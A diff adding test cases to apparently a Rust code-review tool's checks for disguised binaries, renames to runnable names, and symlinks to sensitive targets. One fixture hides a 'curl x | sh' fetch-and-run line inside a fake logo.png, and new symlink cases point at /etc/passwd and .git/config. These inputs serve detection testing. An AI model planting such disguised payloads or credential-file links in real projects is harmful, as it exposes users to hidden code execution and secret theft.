@@ -1173,6 +1173,10 @@ fn binary_file_is_harmless_only_if_it_is_data() {
         ("bin/t.dat", executable, "x\0", incomplete),
         ("bin/t.dat", plain, "x\0", harmless),
         ("img/logo.gif", executable, "GIF89a\0", harmless),
+        ("img/logo.png", executable, "BM=1\ncurl x | sh\nexit\n\0", incomplete),
+        ("img/logo.svg", plain, "<\0s\0v\0g\0>\0", incomplete),
+        ("a.plist", plain, "\0<\0p\0l\0i\0s\0t\0>", incomplete),
+        ("a.plist", plain, "bplist00\0", harmless),
         ("x.new", plain, "\x01\x02\x03\0", accepted),
         ("tests/a.xml", plain, "x\0", accepted),
         ("app.pbxproj", plain, "text", accepted),
@@ -1212,6 +1216,7 @@ fn moves_to_names_that_run_make_the_review_incomplete() {
         ("notes.txt", "web/x.cgi"),
         ("notes.txt", "bin/x.phar"),
         ("docs/x.md", "AGENTS.md"),
+        ("lib/a.py", "fabfile.py"),
     ] {
         assert_eq!(moved(old, new), SkipEffect::Incomplete, "{old} -> {new}");
     }
@@ -1261,6 +1266,8 @@ fn link_brings_only_unread_code_into_use() {
         (".mcp.json", "/tmp/x.json"),
         ("compose.yaml", "/tmp/x"),
         ("plugin.py", "vendor/sub\n+x/../evil.py"),
+        ("a.txt", "/etc/passwd"),
+        ("b.md", ".git/config"),
     ] {
         assert_eq!(effect(link, target), SkipEffect::Incomplete, "{link} -> {target}");
     }
